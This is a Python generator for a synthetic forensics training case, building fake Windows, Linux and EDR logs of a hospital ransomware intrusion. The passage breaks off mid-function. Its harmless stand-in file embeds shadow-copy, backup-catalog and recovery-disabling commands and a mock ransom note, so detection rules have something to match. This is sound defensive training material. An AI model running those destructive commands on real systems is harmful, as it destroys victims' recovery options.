"""Generate the synthetic DIMS hospital ransomware case in ``sample_data/`` (SYNTHETIC data).

The incident is the one ``docs/scenario.md`` describes: an RDP jump host exposed to the internet
(WIN-TS01) is password-sprayed from 203.0.113.45, the attacker dumps LSASS, moves to the domain
controller, exfiltrates a database backup share, then pushes a ransomware stand-in to the SQL and
lab servers with PsExec, deletes shadow copies, encrypts, and clears the logs. LIS-APP01's clock
runs 3 min 40 s fast; the Linux auth.log has no year; a forwarded copy of the Security and System
logs was taken before they were cleared.

Deterministic: the same options give the same bytes (a seeded ``random.Random``, fixed
timestamps, sorted output, no wall-clock time anywhere).

    python scripts/make_sample_data.py                       # writes sample_data/
    python scripts/make_sample_data.py --out /tmp/big --hosts 400 --days 7   # ~2 million events

With ``--hosts``/``--days`` the case grows (more hosts, more days of benign background, more
encrypted files); such a case must be written outside the repository.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import random
import shutil
import sys
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parent.parent
if str(REPO) not in sys.path:  # run as a plain script from a checkout
    sys.path.insert(0, str(REPO))

from forensics.testing.evtx_writer import (  # noqa: E402
    WinEvent,
    event_json,
    wevtutil_xml,
    write_evtx,
)

IST = timezone(timedelta(hours=5, minutes=30), "IST")
DOMAIN = "dims.local"
NETBIOS = "DIMS"
DOMAIN_SID = "S-1-5-21-3520047316-1844091202-2270551873"  # generated
SEED = 20221123
SYNTHETIC = "SYNTHETIC DEMO DATA - DIMS hospital ransomware case - not real"

ATTACKER_IP = "203.0.113.45"
TOOL_IP = "198.51.100.23"
EXFIL_IP = "192.0.2.77"
DIMS_PUBLIC_IP = "192.0.2.10"
RANSOM_DOMAIN = "dimsrecover.example"
TS01, DC01, DB01, DB02, LIS = "WIN-TS01", "DC01", "EHOSP-DB01", "EHOSP-DB02", "LIS-APP01"
ES01, BKP01 = "LNX-ES01", "LNX-BKP01"
WIN_HOSTS = (TS01, DC01, DB01, DB02, LIS)
TARGETS = (DB01, DB02, LIS)
EDR_HOSTS = (DB01, DB02)
IP = {
    TS01: "10.10.5.20",
    DC01: "10.10.1.10",
    DB01: "10.10.2.11",
    DB02: "10.10.2.12",
    LIS: "10.10.3.21",
    ES01: "10.10.7.31",
    BKP01: "10.10.7.40",
}
SKEW = {LIS: timedelta(minutes=3, seconds=40)}  # LIS-APP01 is not NTP-synced
CLIENT_NAMES = {  # the computer name an RDP client reports (WorkstationName of a type 10 logon)
    ATTACKER_IP: "DESKTOP-J4R8T2K",
    "10.10.5.20": "WIN-TS01",
    "10.10.9.15": "IT-WS15",
    "10.10.9.21": "IT-WS21",
}
USERS = {  # name -> RID
    "helpdesk01": 1107,
    "adm.sharma": 1104,
    "it.rao": 1112,
    "svc.backup": 1120,
    "svc.lis": 1121,
    "dims.svc": 1150,
}

STANDIN_MARKER = "DIMS-SYNTHETIC-RANSOM-STANDIN-5c1e9a77"
LOCK_EXT = ".dims_locked"
NOTE_NAME = "README_TO_DECRYPT.txt"

# channel key -> (channel name, provider key)
CH = {
    "sec": "Security",
    "sys": "System",
    "app": "Application",
    "sysmon": "Microsoft-Windows-Sysmon/Operational",
    "ps": "Microsoft-Windows-PowerShell/Operational",
    "rcm": "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational",
    "lsm": "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
    "task": "Microsoft-Windows-TaskScheduler/Operational",
    "def": "Microsoft-Windows-Windows Defender/Operational",
}
PROV = {
    "sec": ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-a5ba-3e3b0328c30d}"),
    "eventlog": ("Microsoft-Windows-Eventlog", "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"),
    "scm": ("Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}"),
    "sysmon": ("Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"),
    "ps": ("Microsoft-Windows-PowerShell", "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}"),
    "rcm": (
        "Microsoft-Windows-TerminalServices-RemoteConnectionManager",
        "{c76baa63-ae81-421c-b425-340b4b24157f}",
    ),
    "lsm": (
        "Microsoft-Windows-TerminalServices-LocalSessionManager",
        "{5d896912-022d-40aa-a3a8-4fa5515c76d7}",
    ),
    "task": ("Microsoft-Windows-TaskScheduler", "{de7b24ea-73c8-4a09-985d-5bdadcfa9017}"),
    "def": ("Microsoft-Windows-Windows Defender", "{11cd958a-c507-4ef3-b3f2-5fd9dfbd2c78}"),
    "time": ("Microsoft-Windows-Time-Service", "{06edcfeb-0fd0-4e53-acca-a6f8bbf81bcb}"),
    "mssql": ("MSSQLSERVER", None),
    "esent": ("ESENT", None),
    "lab": ("DIMS-LabConnect", None),
}
CLEARED = ("sec", "sys")  # channels the attacker clears (and WEF forwards)
EVENTXML_NS = "Event_NS"  # what TerminalServices UserData declares


def ist(day: int, hms: str, micro: int = 0) -> datetime:
    """A November 2022 IST wall-clock time as aware UTC."""
    h, m, s = (int(x) for x in hms.split(":"))
    return datetime(2022, 11, day, h, m, s, micro, tzinfo=IST).astimezone(UTC)


def fqdn(host: str) -> str:
    """Windows ``Computer`` value for a DIMS host."""
    return f"{host}.{DOMAIN}"


def sid(user: str) -> str:
    """The (generated) domain SID of a DIMS user."""
    return f"{DOMAIN_SID}-{USERS.get(user, 1199)}"


def fake_hashes(name: str) -> dict[str, str]:
    """MD5/SHA1/SHA256/IMPHASH for a tool, derived from its name: collide with no real file."""
    seed = f"dims-synthetic-binary:{name.lower()}".encode()
    return {
        "MD5": hashlib.md5(seed).hexdigest(),
        "SHA1": hashlib.sha1(seed).hexdigest(),
        "SHA256": hashlib.sha256(seed).hexdigest(),
        "IMPHASH": hashlib.md5(seed + b":imp").hexdigest(),
    }


def sysmon_hashes(h: dict[str, str]) -> str:
    """Sysmon's ``Hashes`` field (upper-case hex)."""
    return ",".join(f"{k}={h[k].upper()}" for k in ("SHA1", "MD5", "SHA256", "IMPHASH"))


# --- the stand-in and its note ------------------------------------------------------------

RANSOM_NOTE = f"""\
!!! {SYNTHETIC} !!!
---------------------------------------------------------------
 ALL YOUR FILES HAVE BEEN ENCRYPTED BY DIMSLOCK (synthetic)
---------------------------------------------------------------
Your databases, lab results and backups now end in {LOCK_EXT}.
Do not rename them. Do not try to restore them yourself.
To get the decryptor write to: recover@{RANSOM_DOMAIN}
Personal ID: DIMS-7Q2X-19F4
This note is part of a synthetic training case and harmless.
"""

STANDIN = f"""\
This is NOT a program. {SYNTHETIC}.
A harmless text stand-in for the ransomware binary 'svchosts.exe' of the demo case.
It is not executable and does nothing. It exists so that YARA rules and IOC hashes match.
marker: {STANDIN_MARKER}
--- embedded strings a real encryptor of this kind would carry ---
DIMSLOCK v1.3
extension={LOCK_EXT}
note={NOTE_NAME}
cmd=vssadmin delete shadows /all /quiet
cmd=wbadmin delete catalog -quiet
cmd=bcdedit /set {{default}} recoveryenabled No
--- note ---
{RANSOM_NOTE}"""

STANDIN_SHA256 = hashlib.sha256(STANDIN.encode()).hexdigest()
STANDIN_HASHES = {
    "MD5": hashlib.md5(STANDIN.encode()).hexdigest(),
    "SHA1": hashlib.sha1(STANDIN.encode()).hexdigest(),
    "SHA256": STANDIN_SHA256,
    "IMPHASH": "00000000000000000000000000000000",
}


# --- case model ---------------------------------------------------------------------------


@dataclass
class Proc:
    """A process the generator has started (for parent links)."""

    host: str
    pid: int
    guid: str
    image: str
    cmd: str
    user: str


@dataclass
class Step:
    """What one scenario step left in the logs: window (true UTC), techniques, evidence."""

    number: int
    title: str
    attack: tuple[str, ...]
    hosts: list[str] = field(default_factory=list)
    start: datetime | None = None
    end: datetime | None = None
    evidence: list[dict[str, Any]] = field(default_factory=list)

    def touch(self, host: str, t: datetime) -> None:
        """Widen the step window with an event logged on ``host`` at true time ``t``."""
        if host not in self.hosts:
            self.hosts.append(host)
        self.start = t if self.start is None or t < self.start else self.start
        self.end = t if self.end is None or t > self.end else self.end


STEP_TITLES: dict[int, tuple[str, tuple[str, ...]]] = {
    1: ("Password spray against WIN-TS01 over RDP/NTLM", ("T1110.003",)),
    2: ("RDP logon as DIMS\\helpdesk01 from 203.0.113.45", ("T1133", "T1078.002")),
    3: ("Discovery: whoami, net group, nltest", ("T1033", "T1087.002", "T1018")),
    4: ("Tool download with PowerShell from 198.51.100.23", ("T1059.001", "T1105")),
    5: ("LSASS dump with comsvcs.dll MiniDump", ("T1003.001",)),
    6: ("RDP to DC01 as DIMS\\adm.sharma", ("T1021.001",)),
    7: ("NTDS.dit copy via ntdsutil IFM", ("T1003.003",)),
    8: ("Backdoor domain admin dims.svc", ("T1136.002", "T1098")),
    9: ("Exfiltration of the DB backup share with rclone to 192.0.2.77", ("T1560.001", "T1048")),
    10: ("SSH to LNX-ES01 with a reused password, sudo to root", ("T1021.004", "T1078.003")),
    11: ("Linux encryptor fetched with curl", ("T1105",)),
    12: ("SSH brute force on LNX-BKP01 root fails", ("T1110.001",)),
    13: ("PsExec from DC01 to the servers, Defender disabled", ("T1569.002", "T1021.002", "T1562.001")),
    14: ("svchosts.exe copied to the servers over C$", ("T1570", "T1036.005")),
    15: ("SQL Server stopped and disabled", ("T1489",)),
    16: ("Shadow copies, backup catalog and recovery deleted", ("T1490",)),
    17: ("Remote scheduled task \\Microsoft\\Windows\\EdgeUpdateCore", ("T1053.005",)),
    18: ("Encryption of the SQL and lab servers", ("T1486",)),
    19: ("Elasticsearch stopped and its indices encrypted", ("T1489", "T1486")),
    20: ("Event logs cleared, auth.log truncated, history cleared", ("T1070.001", "T1070.003")),
    21: ("Impact noticed: the lab application cannot reach SQL", ()),
}


@dataclass
class Options:
    """What to generate: the committed demo (defaults) or a larger benchmark case."""

    seed: int = SEED
    extra_hosts: int = 0  # benign workstations added in large mode
    days: int = 1  # days of benign background before the attack day
    encrypt_files: int = 80  # encrypted files per target host (spread over four folders)

    @property
    def large(self) -> bool:
        """True for a benchmark case."""
        return self.extra_hosts > 0 or self.days > 1


class Case:
    """Collects every record of the case in memory, then writes them out sorted."""

    def __init__(self, opts: Options) -> None:
        self.opts = opts
        self.rng = random.Random(opts.seed)
        self.win: dict[tuple[str, str], list[tuple[datetime, int, WinEvent]]] = {}
        self.auth: dict[str, list[tuple[datetime, int, str]]] = {ES01: [], BKP01: []}
        self.audit: list[tuple[datetime, int, list[str]]] = []
        self.journal: dict[str, list[tuple[datetime, int, dict[str, str]]]] = {ES01: [], BKP01: []}
        self.firewall: list[tuple[datetime, int, str]] = []
        self.edr: list[tuple[datetime, int, dict[str, Any]]] = []
        self.steps: dict[int, Step] = {n: Step(n, t, a) for n, (t, a) in STEP_TITLES.items()}
        self.step: Step | None = None
        self.seq = 0
        self.audit_serial = 48100
        self.boot = {h: str(uuid.UUID(int=self.rng.getrandbits(128))).replace("-", "") for h in (ES01, BKP01)}
        self.clear_time: dict[tuple[str, str], datetime] = {}

    # -- bookkeeping ------------------------------------------------------------------------

    def next_seq(self) -> int:
        """A global insertion counter: the tie-breaker that keeps sorting stable."""
        self.seq += 1
        return self.seq

    def mark(self, host: str, t: datetime) -> None:
        """Attribute an event to the current scenario step (if any)."""
        if self.step is not None:
            self.step.touch(host, t)

    def evidence(self, **what: Any) -> None:
        """Record how the current step's events can be found (for expected_steps.json)."""
        assert self.step is not None
        if what not in self.step.evidence:
            self.step.evidence.append(what)

    def guid(self) -> str:
        """A Sysmon-style process / logon GUID."""
        return "{" + str(uuid.UUID(int=self.rng.getrandbits(128))) + "}"

    def pid(self) -> int:
        """A Windows-looking process id."""
        return self.rng.randrange(1000, 12000, 4)

    def logon_id(self) -> str:
        """A hexadecimal logon id."""
        return hex(self.rng.randrange(0x100000, 0x9FFFFFF))

    # -- Windows ----------------------------------------------------------------------------

    def add(
        self,
        host: str,
        ch: str,
        eid: int,
        t: datetime,
        data: dict[str, str | None] | None = None,
        *,
        prov: str | None = None,
        user_data: tuple[str, dict[str, str | None]] | None = None,
        user_data_ns: str | None = None,
        level: int | None = None,
        **kw: Any,
    ) -> WinEvent:
        """One Windows event at true time ``t``; the host's clock skew is applied here."""
        name, guid = PROV[prov or ch]
        logged = t + SKEW.get(host, timedelta(0))
        if level is None:
            level = 0 if ch == "sec" else 4
        if ch == "sysmon":  # Sysmon's task is its event id
            kw.setdefault("task", eid)
        extra: dict[str, Any] = {}
        if user_data is not None:
            extra["user_data"] = (user_data[0], tuple(user_data[1].items()))
            if user_data_ns:
                extra["user_data_ns"] = user_data_ns
        elif data is not None:
            extra["event_data"] = tuple(data.items())
        ev = WinEvent(
            provider=name,
            provider_guid=guid,
            event_id=eid,
            ts=logged,
            channel=CH[ch],
            computer=fqdn(host),
            level=level,
            **extra,
            **kw,
        )
        self.win.setdefault((host, ch), []).append((t, self.next_seq(), ev))
        self.mark(host, t)
        return ev

    def utc_text(self, host: str, t: datetime) -> str:
        """Sysmon ``UtcTime`` as the host's (possibly skewed) clock writes it."""
        logged = (t + SKEW.get(host, timedelta(0))).astimezone(UTC)
        return logged.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]

    def proc(
        self,
        host: str,
        t: datetime,
        image: str,
        cmd: str,
        user: str,
        parent: Proc | None,
        *,
        hashes: dict[str, str] | None = None,
        integrity: str = "High",
        cwd: str = "C:\\Windows\\system32\\",
        security: bool = True,
    ) -> Proc:
        """A process start: Sysmon 1, Security 4688, and an EDR row on the DB servers."""
        p = Proc(host, self.pid(), self.guid(), image, cmd, user)
        par = parent or Proc(
            host, 4, "{00000000-0000-0000-0000-000000000000}", "System", "", "NT AUTHORITY\\SYSTEM"
        )
        h = hashes or fake_hashes(image.rsplit("\\", 1)[-1])
        exe = image.rsplit("\\", 1)[-1]
        self.add(
            host,
            "sysmon",
            1,
            t,
            {
                "RuleName": "-",
                "UtcTime": self.utc_text(host, t),
                "ProcessGuid": p.guid,
                "ProcessId": str(p.pid),
                "Image": image,
                "FileVersion": "-",
                "Description": "-",
                "Product": "-",
                "Company": "-",
                "OriginalFileName": exe,
                "CommandLine": cmd,
                "CurrentDirectory": cwd,
                "User": user,
                "LogonGuid": self.guid(),
                "LogonId": self.logon_id(),
                "TerminalSessionId": "0" if user.startswith("NT AUTHORITY") else "2",
                "IntegrityLevel": integrity if not user.startswith("NT AUTHORITY") else "System",
                "Hashes": sysmon_hashes(h),
                "ParentProcessGuid": par.guid,
                "ParentProcessId": str(par.pid),
                "ParentImage": par.image,
                "ParentCommandLine": par.cmd,
                "ParentUser": par.user,
            },
            process_id=2956,
            thread_id=3620,
            user_id="S-1-5-18",
        )
        if security:
            dom, _, name = user.partition("\\")
            self.add(
                host,
                "sec",
                4688,
                t + timedelta(microseconds=150),
                {
                    "SubjectUserSid": sid(name) if dom == NETBIOS else "S-1-5-18",
                    "SubjectUserName": name if dom == NETBIOS else f"{host}$",
                    "SubjectDomainName": dom if dom == NETBIOS else NETBIOS,
                    "SubjectLogonId": self.logon_id(),
                    "NewProcessId": hex(p.pid),
                    "NewProcessName": image,
                    "TokenElevationType": "%%1937" if integrity == "High" else "%%1938",
                    "ProcessId": hex(par.pid),
                    "CommandLine": cmd,
                    "TargetUserSid": "S-1-0-0",
                    "TargetUserName": "-",
                    "TargetDomainName": "-",
                    "TargetLogonId": "0x0",
                    "ParentProcessName": par.image,
                    "MandatoryLabel": "S-1-16-12288" if integrity == "High" else "S-1-16-8192",
                },
                version=2,
                task=13312,
                keywords=0x8020000000000000,
            )
        if host in EDR_HOSTS:
            self.edr_row(
                host,
                t,
                "DeviceProcessEvents",
                "ProcessCreated",
                {
                    "FileName": exe.lower(),
                    "FolderPath": image,
                    "ProcessId": p.pid,
                    "ProcessCommandLine": cmd,
                    "SHA1": h["SHA1"],
                    "SHA256": h["SHA256"],
                    "MD5": h["MD5"],
                    "AccountDomain": user.partition("\\")[0].lower(),
                    "AccountName": user.partition("\\")[2],
                    "InitiatingProcessFileName": par.image.rsplit("\\", 1)[-1].lower(),
                    "InitiatingProcessFolderPath": par.image,
                    "InitiatingProcessCommandLine": par.cmd,
                    "InitiatingProcessId": par.pid,
                },
            )
        return p

    def sysmon(self, host: str, eid: int, t: datetime, data: dict[str, str | None]) -> WinEvent:
        """A Sysmon event other than process creation (RuleName and UtcTime filled in)."""
        full: dict[str, str | None] = {"RuleName": "-", "UtcTime": self.utc_text(host, t)}
        full.update(data)
        return self.add(host, "sysmon", eid, t, full, process_id=2956, thread_id=3620, user_id="S-1-5-18")

    def net(
        self, host: str, t: datetime, p: Proc, dst_ip: str, dst_port: int, *, src_port: int | None = None
    ) -> None:
        """Sysmon 3: an outbound TCP connection by ``p``."""
        sport = src_port or self.rng.randrange(49700, 64000)
        self.sysmon(
            host,
            3,
            t,
            {
                "ProcessGuid": p.guid,
                "ProcessId": str(p.pid),
                "Image": p.image,
                "User": p.user,
                "Protocol": "tcp",
                "Initiated": "true",
                "SourceIsIpv6": "false",
                "SourceIp": IP.get(host, "10.10.9.99"),
                "SourceHostname": fqdn(host),
                "SourcePort": str(sport),
                "SourcePortName": "-",
                "DestinationIsIpv6": "false",
                "DestinationIp": dst_ip,
                "DestinationHostname": "-",
                "DestinationPort": str(dst_port),
                "DestinationPortName": {
                    22: "ssh",
                    80: "http",
                    445: "microsoft-ds",
                    3389: "ms-wbt-server",
                }.get(dst_port, "-"),
            },
        )
        if host in EDR_HOSTS:
            self.edr_row(
                host,
                t,
                "DeviceNetworkEvents",
                "ConnectionSuccess",
                {
                    "RemoteIP": dst_ip,
                    "RemotePort": dst_port,
                    "LocalIP": IP[host],
                    "LocalPort": sport,
                    "Protocol": "Tcp",
                    "InitiatingProcessFileName": p.image.rsplit("\\", 1)[-1].lower(),
                    "InitiatingProcessCommandLine": p.cmd,
                    "InitiatingProcessId": p.pid,
                },
            )

    def file(
        self,
        host: str,
        t: datetime,
        p: Proc,
        path: str,
        *,
        edr_action: str = "FileCreated",
        previous: str | None = None,
    ) -> None:
        """Sysmon 11: ``p`` created ``path``."""
        self.sysmon(
            host,
            11,
            t,
            {
                "ProcessGuid": p.guid,
                "ProcessId": str(p.pid),
                "Image": p.image,
                "TargetFilename": path,
                "CreationUtcTime": self.utc_text(host, t),
                "User": p.user,
            },
        )
        if host in EDR_HOSTS:
            name = path.rpartition("\\")[2]
            self.edr_row(
                host,
                t,
                "DeviceFileEvents",
                edr_action,
                {
                    "FileName": name,
                    "FolderPath": path,
                    "InitiatingProcessFileName": p.image.rsplit("\\", 1)[-1].lower(),
                    "InitiatingProcessCommandLine": p.cmd,
                    "InitiatingProcessId": p.pid,
                    "SHA256": STANDIN_SHA256 if name == "svchosts.exe" else None,
                    "PreviousFileName": previous,
                },
            )

    def logon(
        self,
        host: str,
        t: datetime,
        user: str,
        ltype: int,
        ip: str,
        *,
        domain: str = NETBIOS,
        auth: str = "Kerberos",
        admin: bool = False,
        workstation: str = "-",
    ) -> str:
        """Security 4624 (and 4672 for privileged accounts); returns the logon id."""
        lid = self.logon_id()
        self.add(
            host,
            "sec",
            4624,
            t,
            {
                "SubjectUserSid": "S-1-5-18" if ltype in (2, 10, 5) else "S-1-0-0",
                "SubjectUserName": f"{host}$" if ltype in (2, 10, 5) else "-",
                "SubjectDomainName": NETBIOS if ltype in (2, 10, 5) else "-",
                "SubjectLogonId": "0x3e7" if ltype in (2, 10, 5) else "0x0",
                "TargetUserSid": sid(user) if not user.endswith("$") else f"{DOMAIN_SID}-1{len(user)}01",
                "TargetUserName": user,
                "TargetDomainName": domain,
                "TargetLogonId": lid,
                "LogonType": str(ltype),
                "LogonProcessName": "User32"
                if ltype == 10
                else ("NtLmSsp" if auth == "NTLM" else "Kerberos"),
                "AuthenticationPackageName": "Negotiate" if ltype == 10 else auth,
                "WorkstationName": workstation,
                "LogonGuid": self.guid(),
                "TransmittedServices": "-",
                "LmPackageName": "NTLM V2" if auth == "NTLM" else "-",
                "KeyLength": "128" if auth == "NTLM" else "0",
                "ProcessId": "0x2a4" if ltype == 10 else "0x0",
                "ProcessName": "C:\\Windows\\System32\\svchost.exe" if ltype == 10 else "-",
                "IpAddress": ip,
                "IpPort": str(self.rng.randrange(49700, 64000)) if ip != "-" else "-",
                "ImpersonationLevel": "%%1833",
                "RestrictedAdminMode": "-",
                "TargetOutboundUserName": "-",
                "TargetOutboundDomainName": "-",
                "VirtualAccount": "%%1843",
                "TargetLinkedLogonId": "0x0",
                "ElevatedToken": "%%1842" if admin else "%%1843",
            },
            version=2,
            task=12544,
            keywords=0x8020000000000000,
            process_id=648,
            thread_id=self.rng.randrange(700, 9000, 4),
        )
        if admin:
            self.add(
                host,
                "sec",
                4672,
                t + timedelta(microseconds=300),
                {
                    "SubjectUserSid": sid(user),
                    "SubjectUserName": user,
                    "SubjectDomainName": domain,
                    "SubjectLogonId": lid,
                    "PrivilegeList": "SeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\tSeDebugPrivilege"
                    "\n\t\t\tSeImpersonatePrivilege",
                },
                task=12548,
                keywords=0x8020000000000000,
                process_id=648,
                thread_id=700,
            )
        return lid

    def rdp(self, host: str, t: datetime, user: str, ip: str, *, admin: bool, session: int) -> Proc:
        """An RDP session start: 1149, 4624 type 10, LocalSessionManager 21 and 22."""
        self.add(
            host,
            "rcm",
            1149,
            t,
            user_data=("EventXML", {"Param1": user, "Param2": NETBIOS, "Param3": ip}),
            user_data_ns=EVENTXML_NS,
            process_id=1076,
            thread_id=1932,
            user_id="S-1-5-20",
        )
        client = CLIENT_NAMES.get(ip, "-")  # a type 10 logon names the client's computer
        self.logon(host, t + timedelta(seconds=2), user, 10, ip, admin=admin, workstation=client)
        for eid, dt in ((21, 3), (22, 4)):
            self.add(
                host,
                "lsm",
                eid,
                t + timedelta(seconds=dt),
                user_data=(
                    "EventXML",
                    {"User": f"{NETBIOS}\\{user}", "SessionID": str(session), "Address": ip},
                ),
                user_data_ns=EVENTXML_NS,
                process_id=1000,
                thread_id=1300,
                user_id="S-1-5-18",
            )
        explorer = Proc(
            host,
            self.pid(),
            self.guid(),
            "C:\\Windows\\explorer.exe",
            "C:\\Windows\\Explorer.EXE",
            f"{NETBIOS}\\{user}",
        )
        return explorer

    def rdp_end(self, host: str, t: datetime, user: str, ip: str, session: int) -> None:
        """An RDP session end: LocalSessionManager 24 and 23, Security 4634."""
        for eid, dt in ((24, 0), (23, 5)):
            self.add(
                host,
                "lsm",
                eid,
                t + timedelta(seconds=dt),
                user_data=(
                    "EventXML",
                    {"User": f"{NETBIOS}\\{user}", "SessionID": str(session), "Address": ip},
                ),
                user_data_ns=EVENTXML_NS,
                process_id=1000,
                thread_id=1300,
                user_id="S-1-5-18",
            )
        self.add(
            host,
            "sec",
            4634,
            t + timedelta(seconds=6),
            {
                "TargetUserSid": sid(user),
                "TargetUserName": user,
                "TargetDomainName": NETBIOS,
                "TargetLogonId": self.logon_id(),
                "LogonType": "10",
            },
            task=12545,
            keywords=0x8020000000000000,
        )

    def explicit_creds(
        self, host: str, t: datetime, subject: str, target_user: str, server: str, ip: str, process: str
    ) -> None:
        """Security 4648: a logon with explicit credentials towards ``server``."""
        self.add(
            host,
            "sec",
            4648,
            t,
            {
                "SubjectUserSid": sid(subject) if not subject.endswith("$") else "S-1-5-18",
                "SubjectUserName": subject,
                "SubjectDomainName": NETBIOS,
                "SubjectLogonId": self.logon_id(),
                "LogonGuid": self.guid(),
                "TargetUserName": target_user,
                "TargetDomainName": NETBIOS,
                "TargetLogonGuid": self.guid(),
                "TargetServerName": server,
                "TargetInfo": server,
                "ProcessId": hex(self.pid()),
                "ProcessName": process,
                "IpAddress": ip,
                "IpPort": "0",
            },
            task=12544,
            keywords=0x8020000000000000,
            process_id=648,
            thread_id=712,
        )

    def kerberos_ticket(self, t: datetime, user: str, service: str, ip: str) -> None:
        """DC01 Security 4769: a service ticket requested from ``ip``."""
        self.add(
            DC01,
            "sec",
            4769,
            t,
            {
                "TargetUserName": f"{user}@{DOMAIN.upper()}",
                "TargetDomainName": DOMAIN.upper(),
                "ServiceName": service,
                "ServiceSid": f"{DOMAIN_SID}-1{len(service)}09",
                "TicketOptions": "0x40810000",
                "TicketEncryptionType": "0x12",
                "IpAddress": f"::ffff:{ip}",
                "IpPort": str(self.rng.randrange(49700, 64000)),
                "Status": "0x0",
                "LogonGuid": self.guid(),
                "TransmittedServices": "-",
            },
            task=14337,
            keywords=0x8020000000000000,
            process_id=652,
            thread_id=1844,
        )

    def share(self, host: str, t: datetime, user: str, src: str, share: str, rel: str) -> None:
        """Security 5145: a file on a network share was accessed from ``src``."""
        self.add(
            host,
            "sec",
            5145,
            t,
            {
                "SubjectUserSid": sid(user),
                "SubjectUserName": user,
                "SubjectDomainName": NETBIOS,
                "SubjectLogonId": self.logon_id(),
                "ObjectType": "File",
                "IpAddress": src,
                "IpPort": str(self.rng.randrange(49700, 64000)),
                "ShareName": f"\\\\*\\{share}",
                "ShareLocalPath": {"ADMIN$": "\\??\\C:\\Windows", "C$": "\\??\\C:\\"}.get(
                    share, f"\\??\\D:\\{share}"
                ),
                "RelativeTargetName": rel,
                "AccessMask": "0x2",
                "AccessList": "%%4417\n\t\t\t\t",
                "AccessReason": "-",
            },
            task=12811,
            keywords=0x8020000000000000,
        )

    def edr_row(self, host: str, t: datetime, table: str, action: str, props: dict[str, Any]) -> None:
        """One Defender for Endpoint advanced-hunting record (streaming API envelope)."""
        base: dict[str, Any] = {
            "Timestamp": t.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%f") + "0Z",
            "DeviceId": hashlib.sha1(f"dims-device:{host}".encode()).hexdigest(),
            "DeviceName": fqdn(host).lower(),
            "ActionType": action,
            "ReportId": self.next_seq(),
        }
        base.update(props)
        record = {
            "time": (t + timedelta(minutes=4)).astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%f") + "0Z",
            "tenantId": "00000000-d1d5-4a11-9e7c-5a17e71c0001",
            "operationName": "Publish",
            "category": f"AdvancedHunting-{table}",
            "properties": dict(sorted(base.items())),
        }
        self.edr.append((t, self.next_seq(), record))
        self.mark(host, t)

    # -- Linux -------------------------------------------------------------------------------

    def authlog(self, host: str, t: datetime, prog: str, msg: str, *, journal: bool = False) -> None:
        """An auth.log line (RFC 3164, IST, no year); ``journal`` also puts it in the journal export.

        The exports are of the system units (``journalctl -o json``), not of sshd/sudo/cron, so that
        one logon is not counted twice by a reader of both files.
        """
        self.auth[host].append((t, self.next_seq(), f"{prog}: {msg}"))
        if journal:
            ident, _, pid = prog.partition("[")
            self.jentry(
                host,
                t,
                ident,
                msg.strip(),
                pid=pid.rstrip("]") or None,
                facility="10" if ident != "CRON" else "9",
            )
        self.mark(host, t)

    def jentry(
        self,
        host: str,
        t: datetime,
        ident: str,
        msg: str,
        *,
        pid: str | None = None,
        unit: str | None = None,
        priority: str = "6",
        facility: str | None = None,
    ) -> None:
        """A ``journalctl -o json`` entry."""
        e: dict[str, str] = {
            "__REALTIME_TIMESTAMP": str(int(t.timestamp()) * 1_000_000 + t.microsecond),
            "_BOOT_ID": self.boot[host],
            "_HOSTNAME": host.lower(),
            "PRIORITY": priority,
            "SYSLOG_IDENTIFIER": ident,
            "MESSAGE": msg,
            "_TRANSPORT": "syslog" if facility else "journal",
        }
        if facility:
            e["SYSLOG_FACILITY"] = facility
        if pid:
            e["_PID"] = pid
            e["SYSLOG_PID"] = pid
        if unit:
            e["UNIT"] = unit
            e["_SYSTEMD_UNIT"] = "init.scope"
            e["_PID"] = "1"
            e["_COMM"] = "systemd"
        self.journal[host].append((t, self.next_seq(), e))
        self.mark(host, t)

    def audit_exec(
        self,
        t: datetime,
        argv: list[str],
        *,
        auid: int,
        uid: int,
        exe: str,
        cwd: str,
        ppid: int,
        tty: str = "pts0",
        ses: int = 41,
        creates: str | None = None,
    ) -> None:
        """auditd records of one execve (SYSCALL, EXECVE, CWD, PATH, PROCTITLE; one serial)."""
        self.audit_serial += self.rng.randrange(3, 40)
        stamp = f"audit({int(t.timestamp())}.{t.microsecond // 1000:03d}:{self.audit_serial})"
        pid = self.rng.randrange(3000, 32000)
        comm = exe.rsplit("/", 1)[-1][:15]
        recs = [
            f"type=SYSCALL msg={stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55d0c3a1e2f0 "
            f"a1=55d0c3a1f410 a2=55d0c3a1c9a0 a3=8 items=2 ppid={ppid} pid={pid} auid={auid} uid={uid} "
            f"gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty={tty} "
            f'ses={ses} comm="{comm}" exe="{exe}" subj=unconfined key="exec"',
            f"type=EXECVE msg={stamp}: argc={len(argv)} "
            + " ".join(_audit_arg(i, a) for i, a in enumerate(argv)),
            f'type=CWD msg={stamp}: cwd="{cwd}"',
            f'type=PATH msg={stamp}: item=0 name="{exe}" inode={self.rng.randrange(100000, 999999)} dev=08:01 '
            "mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0",
            f'type=PATH msg={stamp}: item=1 name="/lib64/ld-linux-x86-64.so.2" inode=1835 dev=08:01 '
            "mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0",
            f"type=PROCTITLE msg={stamp}: proctitle={chr(0).join(argv).encode().hex().upper()}",
        ]
        self.audit.append((t, self.next_seq(), recs))
        self.mark(ES01, t)
        if creates:
            self.audit_serial += 1
            t2 = t + timedelta(milliseconds=40)
            stamp = f"audit({int(t2.timestamp())}.{t2.microsecond // 1000:03d}:{self.audit_serial})"
            self.audit.append(
                (
                    t2,
